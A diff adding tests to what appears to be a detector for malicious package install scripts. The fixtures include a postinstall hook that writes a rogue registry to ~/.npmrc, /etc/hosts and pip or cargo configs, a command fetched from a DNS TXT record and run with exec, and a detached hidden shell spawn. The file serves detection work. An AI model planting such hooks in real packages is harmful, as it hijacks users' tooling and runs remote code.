@@ -331,6 +331,20 @@ test('commands in files of their own, where something starts them', () => {
   assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
 });
 
+test('when it is installed, settings are written by which tools find what they bring', () => {
+  const files = (path: string): Record<string, string> => ({ 'index.js': '', 'setup.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(${path}, 'registry=https://packs.example/');` });
+  const install = { original: { scripts: { postinstall: 'node setup.js' } } };
+  for (const path of ["path.join(os.homedir(), '.npmrc')", "'/etc/hosts'", "os.homedir() + '/.config/pip/pip.conf'", "path.join(os.homedir(), '.cargo', 'config.toml')"]) assert.deepEqual(said(rule, files(path), install), ['high setup.js:1'], path);
+  assert.deepEqual(said(rule, files("path.join(os.homedir(), '.npmrc')"), { original: { scripts: { start: 'node setup.js' } } }), [], 'somebody starts it');
+  assert.deepEqual(said(rule, files("path.join(__dirname, 'hosts')"), install), [], 'its own file');
+});
+
+test('answers to questions for names are answers of a server', () => {
+  const runs = (what: string): string[] => said(rule, { 'index.js': `const dns = require('dns'), { exec } = require('child_process'); ${what}` });
+  assert.deepEqual(runs("dns.resolveTxt('c.a.example', (_, rows) => exec(rows.flat().join('')))"), ['critical index.js:1']);
+  assert.deepEqual(runs("dns.resolveTxt('a.example', (_, rows) => console.log(rows.some(([row]) => row.startsWith('v=spf1'))))"), []);
+});
+
 test('when it is installed, a command that nobody can read is left running', () => {
   const files = (start: string): Record<string, string> => ({ 'index.js': '', 'check.js': `const { tools } = require('./engines.json'); const { spawn } = require('child_process'); ${start}`, 'engines.json': '{"tools":["c","url"]}' });
   const left = "spawn('/bin/sh', ['-c', tools.join('')], { detached: true, stdio: 'ignore' }).unref()";
